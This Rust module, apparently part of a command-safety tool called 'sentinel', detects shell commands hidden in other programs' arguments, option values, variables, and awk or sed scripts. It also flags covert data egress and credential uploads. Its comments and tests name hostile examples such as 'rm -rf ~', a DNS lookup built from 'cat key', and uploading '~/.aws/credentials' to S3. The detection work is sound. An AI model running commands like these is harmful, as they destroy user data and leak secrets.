//! Commands hidden where a program runs them (SPEC 2.2): in the words of a program sentinel has
//! no spec for (`runuser -u u -- rm -rf ~`, `chroot / rm -rf /home/u`, `tmux new-session -d
//! 'rm -rf ~'`), in an option value that names a program to run (`git grep -O'rm -rf ~'`,
//! `go test -exec '…'`), in a variable that names one (`BROWSER='sh -c …' gh … --web`). Such a
//! command is uncertain anyway; what it would run is judged by the same Tier 1, and a deny
//! inside is a deny of the whole. The same reading tells the fail path (SPEC 2.6) whether an
//! unknown program is harmless: none of its words may be a command, a value known only at run
//! time, a path outside the project, a credential or a network destination. And data can leave
//! by ways no option names ([`hidden_egress`]).

use crate::decision::Decision;
use crate::decision::Verdict;
use crate::decision::effect::Effect;
use crate::local::context::Context;
use crate::local::policy::Part;
use crate::local::spec::Kind;
use crate::local::spec::options;
use crate::rules::Rules;
use crate::shell::{self, SimpleCommand, Word, WordKind};
use std::path::Path;

/// Whether an uncertain command's words may hide a command of their own, from what Tier 1
/// found: no spec for it (no effects), a computed name, or an effect that runs something or
/// that Tier 1 could not read. Anything else is uncertain for a reason of its own (a write
/// outside the project, a send), and its words are not searched.
pub(in crate::local) fn may_hide_a_command(cmd: &SimpleCommand, effects: &[Effect]) -> bool {
    effects.is_empty()
        || cmd
            .argv
            .first()
            .is_some_and(|w| w.kind == WordKind::Computed)
        || effects.iter().any(|e| {
            matches!(
                e,
                Effect::Review { .. }
                    | Effect::RunProgram { .. }
                    | Effect::RunCode { .. }
                    | Effect::Unknown { .. }
            )
        })
}

/// An uncertain command (`part`): what its words, its `run` values and its command variables
/// would run is judged by `judge` (None past the nesting bound), and the first deny becomes the
/// part's, naming the inner command. Its words are searched only in the call's own commands
/// (`top`), not again in what they embed. Otherwise, for a program or subcommand without a spec, or
/// one its spec sends to review, what its words name is added to its effects for the fail path.
pub(in crate::local) fn check(
    cmd: &SimpleCommand,
    part: &mut Part,
    rules: &Rules,
    ctx: &Context,
    judge: Option<&dyn Fn(&str) -> Decision>,
    top: bool,
) {
    let mut candidates: Vec<(String, String)> = Vec::new();
    for (name, value) in &cmd.assignments {
        if crate::local::spec::env_vars::known(name) == crate::local::spec::env_vars::Known::Command
        {
            candidates.push((value.text.clone(), format!("`{name}` names")));
        }
    }
    if part.verdict != Verdict::Uncertain {
        judge_each(&candidates, part, judge);
        return;
    }
    // A command name whose value is known though it is computed (`$f` after `f=rm`,
    // `$(echo rm)`): the command it names, with the same arguments.
    if let Some(first) = cmd.argv.first()
        && first.kind == WordKind::Computed
        && let Some(value) = &first.value
    {
        let text = format!("{value} {}", render(cmd.args()));
        candidates.push((text, format!("`{}` is", shell::excerpt(&first.text))));
    }
    let reviewed = part
        .effects
        .iter()
        .any(|e| matches!(e, Effect::Review { .. }));
    let reading = options::read(&cmd.argv, &rules.specs);
    let unknown = reading.as_ref().is_none_or(|r| r.unknown_subcommand);
    if let Some(r) = &reading {
        for v in &r.values {
            match v.kind {
                Kind::Run => {
                    candidates.push((v.word.text.clone(), format!("`{}` runs", v.from)));
                }
                Kind::AwkProgram | Kind::SedScript => {
                    let Some(program) = v.word.known_value() else {
                        continue;
                    };
                    let found = if v.kind == Kind::AwkProgram {
                        awk_commands(program)
                    } else {
                        sed_commands(program)
                    };
                    let how = format!("`{}`'s program runs", cmd.name());
                    candidates.extend(found.into_iter().map(|c| (c, how.clone())));
                }
                _ => {}
            }
        }
    }
    // Words are searched at the top only: the suffixes of a suffix are suffixes of the whole,
    // already tried, and searching each again would multiply the work by every level.
    let texts = if top && (reviewed || unknown) {
        texts(cmd, reading.as_ref().map_or(0, |r| r.subcommand_at), rules)
    } else {
        Vec::new()
    };
    let name = format!("`{}` would run", cmd.name());
    candidates.extend(texts.iter().map(|t| (t.clone(), name.clone())));
    if judge_each(&candidates, part, judge) {
        return;
    }
    if reviewed || unknown {
        let cwd = crate::local::policy::judge::effective_cwd(cmd, ctx);
        part.effects
            .extend(risky_words(cmd, &texts, cwd.as_deref(), rules, ctx));
    }
}

/// The commands an awk program runs that are written in it as strings: `system("…")`, and a
/// string piped to or from (`print | "…"`, `"…" | getline`).
fn awk_commands(program: &str) -> Vec<String> {
    let mut out = Vec::new();
    let bytes = program.as_bytes();
    let mut i = 0;
    while let Some(at) = program[i..].find('"') {
        let start = i + at + 1;
        let Some(len) = program[start..].find('"') else {
            break;
        };
        let end = start + len;
        let before = program[..start - 1].trim_end();
        let after = program[end + 1..].trim_start();
        if before.ends_with("system(") || before.ends_with('|') || after.starts_with('|') {
            out.push(program[start..end].replace("\\\"", "\""));
        }
        i = end + 1;
        if i >= bytes.len() {
            break;
        }
    }
    out
}

/// The commands a sed script runs with its `e` command (`e rm -rf ~`, `1e …`).
fn sed_commands(script: &str) -> Vec<String> {
    script
        .split(['\n', ';'])
        .filter_map(|c| {
            let c = c.trim_start();
            // An address (line numbers, `$`, `/re/`) may come first.
            let rest = c.trim_start_matches(|ch: char| {
                ch.is_ascii_digit() || matches!(ch, '$' | ',' | '!' | ' ')
            });
            let cmd = rest.strip_prefix('e')?;
            cmd.starts_with(' ').then(|| cmd.trim().to_string())
        })
        .filter(|c| !c.is_empty())
        .collect()
}

/// Judges each (text, how it runs) with `judge`; the first deny becomes the part's. True then.
fn judge_each(
    candidates: &[(String, String)],
    part: &mut Part,
    judge: Option<&dyn Fn(&str) -> Decision>,
) -> bool {
    let Some(judge) = judge else {
        return false;
    };
    for (text, how) in candidates.iter().take(MAX_TEXTS) {
        if text.len() > MAX_TEXT_BYTES {
            continue;
        }
        let inner = judge(text);
        if inner.verdict != Verdict::Deny {
            continue;
        }
        let (why, rule) = match inner.commands.iter().find(|r| r.verdict == Verdict::Deny) {
            Some(r) => (r.reason.clone(), r.rule.clone()),
            None => (inner.reason.clone(), inner.rule.clone()),
        };
        // A rule's own reason follows its name in the answer; anything else is said here.
        let said = match rule {
            Some(_) => String::new(),
            None => format!(": {why}"),
        };
        *part = Part::new(
            Verdict::Deny,
            format!("{how} `{}`{said}", shell::excerpt(text)),
            rule,
        );
        return true;
    }
    false
}

/// Data leaving by a way no option names: a redirection to `/dev/tcp` or `/dev/udp`, or a
/// network request whose destination is built from command output (`dig $(cat key).x.example`
/// sends the output in the name it looks up). With a credential read in the same call, the call
/// is denied.
pub(in crate::local) fn hidden_egress(cmd: &SimpleCommand, effects: &[Effect]) -> Option<String> {
    if let Some(r) = cmd
        .redirects
        .iter()
        .find(|r| r.kind.writes() && crate::local::policy::socket_path(&r.target.text).is_some())
    {
        return Some(format!("writes to the network socket {}", r.target.text));
    }
    let network = effects.iter().any(|e| {
        matches!(
            e,
            Effect::Fetch | Effect::Receive { .. } | Effect::Send { .. }
        )
    });
    if !network {
        return None;
    }
    cmd.args()
        .iter()
        .find(|w| w.kind == WordKind::Computed && (w.text.contains("$(") || w.text.contains('`')))
        .map(|w| {
            format!(
                "a request built from command output (`{}`)",
                shell::excerpt(&w.text)
            )
        })
}

/// At most this many embedded texts are judged for one command, each at most this long: the
/// work stays bounded whatever the command.
const MAX_TEXTS: usize = 16;
const MAX_TEXT_BYTES: usize = 4096;

/// The texts that `cmd`'s words may run, rendered as shell text: each argument that holds
/// whitespace and starts with a program name (`tmux new-session -d 'rm -rf ~'` → `rm -rf ~`),
/// and each suffix of argv that starts with a program name sentinel knows (`runuser -u u --
/// rm -rf ~` → `rm -rf ~`). Words up to argv index `named` name the program and its
/// subcommands (`aws s3 cp`) and are not looked at.
fn texts(cmd: &SimpleCommand, named: usize, rules: &Rules) -> Vec<String> {
    let mut out = Vec::new();
    // A program that only names or describes a command (`man git push`; `describer` in
    // `rules/program_roles.txt`).
    if rules
        .known
        .holds(crate::local::known::Kind::Describer, cmd.name())
    {
        return out;
    }
    let args = cmd.args();
    // The least each suffix of argv can render to, from the last word back: a suffix whose
    // least is over the bound is not rendered at all (rendering each one up to the bound took
    // time growing with the words times the bound).
    let mut least = vec![0usize; args.len() + 1];
    for (i, w) in args.iter().enumerate().rev() {
        let own = match (w.kind, &w.value) {
            (WordKind::Computed, Some(v)) if !w.text.starts_with('~') => v.len(),
            _ => w.text.len(),
        };
        least[i] = least[i + 1].saturating_add(own + 1);
    }
    for (i, w) in args.iter().enumerate().skip(named) {
        if out.len() >= MAX_TEXTS {
            break;
        }
        let starts_command = is_program(&w.text, rules);
        if w.is_literal() && w.text != "--" && starts_command {
            // Rendered only up to the bound: rendering each suffix whole took time growing with
            // the square of the words.
            if least[i] <= MAX_TEXT_BYTES + 1
                && let Some(text) = render_within(&args[i..], MAX_TEXT_BYTES)
            {
                out.push(text);
            }
        }
        // An option's or a setting's value counts too (`--command='rm -rf ~'`,
        // `-o ProxyCommand='rm -rf ~'`, `--checkpoint-action=exec='…'`): the word, and what
        // follows each `=` in it.
        let mut value = Some(w.text.as_str());
        while let Some(v) = value {
            // A string is taken for a command only when it starts with a program sentinel knows
            // (`'rm -rf ~'`), not any text with spaces (`--notes "example: git reset --hard"`).
            if v.contains(char::is_whitespace)
                && v.len() <= MAX_TEXT_BYTES
                && v.split_whitespace()
                    .next()
                    .is_some_and(|first| is_program(first, rules))
                && out.len() < MAX_TEXTS
            {
                out.push(v.to_string());
                break;
            }
            value = v.split_once('=').map(|(_, rest)| rest);
        }
    }
    out
}

/// Effects that make an unknown program's call more than a harmless unknown, from its words:
/// an embedded command, a word known only at run time, a path outside the project, a
/// credential, a network destination. Each is an [`Effect::Unknown`] naming the word: never allowed unchecked.
fn risky_words(
    cmd: &SimpleCommand,
    embedded: &[String],
    cwd: Option<&Path>,
    rules: &Rules,
    ctx: &Context,
) -> Vec<Effect> {
    let mut out = Vec::new();
    let unknown = |why: String| Effect::Unknown { why };
    if let Some(text) = embedded.iter().find(|t| {
        let a = shell::analyse(t);
        a.parse_error.is_none() && a.commands.iter().any(|c| !c.name().is_empty())
    }) {
        out.push(unknown(format!(
            "`{}` may run `{}`",
            cmd.name(),
            shell::excerpt(text)
        )));
    }
    for w in cmd.args() {
        let value = match w.text.split_once('=') {
            Some((opt, v)) if opt.starts_with('-') => v,
            _ => w.text.as_str(),
        };
        if w.kind == WordKind::Computed && !shell::is_home_ref(&w.text) {
            out.push(unknown(format!("`{}` is known only when it runs", w.text)));
            continue;
        }
        if is_network(value) {
            out.push(unknown(format!("`{value}` is a network destination")));
            continue;
        }
        if !looks_like_path(value) {
            continue;
        }
        let word = Word {
            text: value.to_string(),
            kind: w.kind,
            value: None,
        };
        let Some(found) = crate::local::policy::resolve_all(&word, cwd, ctx) else {
            out.push(unknown(format!(
                "`{value}` is a path sentinel cannot resolve"
            )));
            continue;
        };
        for p in found {
            if crate::local::paths::credentials::credential(&p, rules).is_some() {
                out.push(unknown(format!("`{value}` is a credential")));
            } else if !p.starts_with(ctx.project()) {
                out.push(unknown(format!("`{value}` is outside the project")));
            } else {
                continue;
            }
            break;
        }
    }
    out
}

/// A word that names a program sentinel knows (by its spec, as a shell, or as a runner).
fn is_program(word: &str, rules: &Rules) -> bool {
    let name = word.rsplit('/').next().unwrap_or(word);
    !name.is_empty()
        && !name.starts_with('-')
        && name
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'+' | b'-'))
        && (shell::SHELLS.contains(&name)
            || rules.known.holds(crate::local::known::Kind::Runner, name)
            || rules.specs.lookup(name).is_some())
}

/// A URL, `user@host:path`, or `host:port`.
fn is_network(word: &str) -> bool {
    if let Some((scheme, _)) = word.split_once("://") {
        return !scheme.is_empty()
            && scheme
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || b == b'+');
    }
    if let Some((left, right)) = word.split_once(':') {
        let host_like = |h: &str| {
            !h.is_empty()
                && h.contains(['.', '@'])
                && h.bytes()
                    .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b'@' | b'_'))
        };
        let port =
            !right.is_empty() && right.len() <= 5 && right.bytes().all(|b| b.is_ascii_digit());
        return (host_like(left) && (port || left.contains('@')))
            || (matches!(left, "localhost") && port);
    }
    false
}

/// For a program sentinel has no spec for: a credential among its words and a network
/// destination beside it (`s3cmd put ~/.aws/credentials s3://b/`): what it reads there is taken
/// to go there, as for a known uploader. The credential as described, and the destination.
pub(in crate::local) fn unknown_upload(
    cmd: &SimpleCommand,
    cwd: Option<&Path>,
    rules: &Rules,
    ctx: &Context,
) -> Option<(String, String)> {
    let values = || {
        cmd.args().iter().map(|w| match w.text.split_once('=') {
            Some((opt, v)) if opt.starts_with('-') => (w, v),
            _ => (w, w.text.as_str()),
        })
    };
    let destination = values()
        .map(|(_, v)| v)
        .find(|v| is_network(v) && !crate::local::policy::is_local_host(v))?;
    let credential = values().find_map(|(w, v)| {
        if !looks_like_path(v) {
            return None;
        }
        let word = Word {
            text: v.to_string(),
            kind: w.kind,
            value: None,
        };
        crate::local::policy::resolve_all(&word, cwd, ctx)?
            .into_iter()
            .find_map(|p| {
                crate::local::paths::credentials::credential(&p, rules)
                    .map(|r| crate::local::paths::credentials::describe(&p, r))
            })
    })?;
    Some((credential, format!("to {}", shell::excerpt(destination))))
}

/// A word that names a file: absolute, home-relative, or with a `..` or `/` in it.
fn looks_like_path(word: &str) -> bool {
    word.starts_with('/')
        || word.starts_with('~')
        || word.starts_with("$HOME")
        || word.starts_with("${HOME}")
        || word == ".."
        || word.starts_with("../")
        || word.contains("/../")
}

/// Words as shell text that reads back as the same words: a literal word single-quoted when it
/// needs quoting, an expansion kept in double quotes, a glob as written.
fn render(words: &[Word]) -> String {
    render_within(words, usize::MAX).unwrap_or_default()
}

/// [`render`], or None as soon as the text is longer than `max` bytes.
fn render_within(words: &[Word], max: usize) -> Option<String> {
    let mut out = String::new();
    for (i, w) in words.iter().enumerate() {
        if out.len() > max {
            return None;
        }
        if i > 0 {
            out.push(' ');
        }
        match w.kind {
            WordKind::Literal => out.push_str(&crate::text::shell_word(&w.text)),
            WordKind::Glob => out.push_str(&w.text),
            WordKind::Computed if w.text.starts_with('~') => out.push_str(&w.text),
            // A computed word whose value is known stands as that value.
            WordKind::Computed if w.value.is_some() => {
                out.push_str(&crate::text::shell_word(
                    w.value.as_deref().unwrap_or_default(),
                ));
            }
            WordKind::Computed => {
                out.push('"');
                out.push_str(&w.text.replace('"', "\\\""));
                out.push('"');
            }
        }
    }
    (out.len() <= max).then_some(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_written_in_awk_and_sed_programs_are_found() {
        assert_eq!(awk_commands(r#"BEGIN{system("rm -rf ~")}"#), ["rm -rf ~"]);
        assert_eq!(
            awk_commands(r#"{ print $1 | "sh" } END { "date" | getline d }"#),
            ["sh", "date"]
        );
        assert!(awk_commands(r#"{ print "a|b" }"#).is_empty());
        assert_eq!(sed_commands("e rm -rf ~"), ["rm -rf ~"]);
        assert_eq!(
            sed_commands("1e git push --force\ns/a/b/"),
            ["git push --force"]
        );
        assert!(sed_commands("s/e x/y/").is_empty());
    }

    #[test]
    fn network_destinations_are_told_from_other_words() {
        for yes in [
            "https://x.example/a",
            "ftp://h",
            "user@host.example:/srv",
            "git@github.com:a/b",
            "db.example.com:5432",
            "localhost:6379",
        ] {
            assert!(is_network(yes), "{yes}");
        }
        for no in [
            "a:b",
            "--env",
            "prod",
            "file.txt",
            "10:30",
            "key=value",
            "C:",
        ] {
            assert!(!is_network(no), "{no}");
        }
    }

    #[test]
    fn rendered_words_read_back_as_the_same_words() {
        let words = [
            Word::literal("rm"),
            Word::literal("-rf"),
            Word::literal("a b"),
            Word::literal("it's"),
            Word {
                text: "$HOME".into(),
                kind: WordKind::Computed,
                value: None,
            },
            Word {
                text: "~/x".into(),
                kind: WordKind::Computed,
                value: None,
            },
        ];
        let text = render(&words);
        assert_eq!(text, r#"rm -rf 'a b' 'it'\''s' "$HOME" ~/x"#);
        let a = shell::analyse(&text);
        let argv: Vec<&str> = a.commands[0].argv.iter().map(|w| w.text.as_str()).collect();
        assert_eq!(argv, ["rm", "-rf", "a b", "it's", "$HOME", "~/x"]);
    }
}
